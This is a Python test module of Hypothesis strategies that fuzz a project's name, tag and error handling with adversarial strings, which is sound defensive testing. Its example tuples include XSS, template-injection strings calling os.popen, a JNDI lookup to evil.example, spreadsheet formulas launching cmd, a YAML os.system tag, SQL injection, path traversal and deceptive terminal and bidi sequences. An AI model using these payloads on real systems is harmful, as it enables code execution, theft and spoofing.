"""The worst that people, DRS and AWS put into names, tags, reasons and errors: as examples and strategies."""

from __future__ import annotations

from hypothesis import settings
from hypothesis import strategies as st

from tests.budgets import examples

# ruff: noqa: RUF001 - what looks alike is what is tried

MARKDOWN = (
    "# heading",
    "app | yes |",
    "\\| back | slashes \\\\|",
    "](http://evil.example) ![x](http://evil.example/x.png)",
    "<img src=x onerror=alert(1)><script>alert(1)</script><!--",
    "``` \n# out of the fence\n```",
    "`` ` ``",
    "**bold** _it_ ~~gone~~ [ref][1] [^1]: note",
    "- item",
    "1. one",
    "1) one",
    "+ plus",
    "=====",
    "---",
    "> quote",
    "see www.evil.example or https://evil.example/?a=b or mallory@evil.example",
    "www",
    "&lt;b&gt; &#35; &amp;",
    "| --- | --- |",
    "line\n\n## heading\n\n| a | b |\n| --- | --- |\n| c | d |",
    "    indented code",
    "\ttab",
    "[ ] task [x] done",
    "<http://evil.example>",
    "ends with \\",
    "ends with `",
    "`starts and ends`",
)
TEMPLATES = (
    "{{ 7 * 191 }}",
    "{{ conn.aws_default.get_uri() }}",
    "{{ macros.os.popen('id').read() }}",
    "{% for x in range(9) %}x{% endfor %}",
    "{# never closed",
    "{% raw %}",
    "}} %} #}",
    "${jndi:ldap://evil.example}",
    "%(levelname)s %s {0} {plan.name}",
    "runbook.md",
    "script.sh",
)
TERMINAL = (
    "\x1b[2J\x1b[H\x1b[32mCOMPLETED\x1b[0m",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x9b31mred\x9c",
    "a\rb\bc\x7f\x00",
    "line\nCOMPLETED  all waves\n",
    "\u202egnp.exe\u202c \u2066isolate\u2069 \u200f",
    "para\u2029graph\u2028line\x85next",
    "zero\u200bwidth\ufeff soft\u00adhyphen tag\U000e0041",
    "\x0e\x0f shift",
    "\u3164\u115f\u034f\u2800\ufe0f\uffa0",
)
ELSEWHERE = (
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "- yaml: [1, 2]\n  x: &a *a",
    "!!python/object/apply:os.system ['id']",
    "no",
    "~",
    "'; DROP TABLE x; --",
    "../../etc/passwd",
    "CON",
    "aws:reserved",
    "(a) & b, #c",
)
UNICODE = (
    "データベース",
    "ウェブ層　１",
    "שרת מסד נתונים",
    "خادم ١٢٣",
    "Größe",
    "Gro\u0308ße",
    "👩\u200d💻 🏴\u200d☠️",
    "Z̸̢̛a̵lg̷o",
    "ﬁ ﬀ Ⅷ Ｗｅｂ",
    "İıſK",
    "\U0010fffd\ue000",
    "𝓢𝓮𝓻𝓿𝓮𝓻",
    "\u00a0",
    "\u3000ウェブ\u2003",
)
LONG = ("x" * 5000, "|" * 300, "`" * 300, "\\" * 301, "ab " * 700, "データ" * 400)
BROKEN = ("\ud800", "a\udcffb", "")

EXAMPLES = (*MARKDOWN, *TEMPLATES, *TERMINAL, *ELSEWHERE, *UNICODE, *LONG, *BROKEN)
"""Each of them was, or might be, taken for something else somewhere."""

TRIED = settings(deadline=None, max_examples=examples(60))
"""Enough of them; how long one takes says nothing."""

_PIECES = st.sampled_from([text for text in EXAMPLES if len(text) < 100]) | st.text(max_size=20)


def texts(*, surrogates: bool = True) -> st.SearchStrategy[str]:
    """Return any text at all, and what is made of the worst examples; DynamoDB takes no lone surrogates."""
    joined = st.lists(_PIECES, max_size=5).map("".join)
    worst = st.sampled_from(EXAMPLES) | joined | st.text(alphabet="\\`|*_[]<>#~& \n-=1.)", max_size=30)
    return worst if surrogates else worst.map(lambda text: text.encode("utf-8", "replace").decode())


def lines() -> st.SearchStrategy[str]:
    """Return what a plan file takes for a name: printable, not blank, at most 200 characters."""
    return texts().map(as_line).filter(bool)


def as_line(text: str) -> str:
    """Return as much of a text as a plan file takes for a name; nothing if that is nothing."""
    return "".join(char for char in text if char.isprintable())[:200].strip()
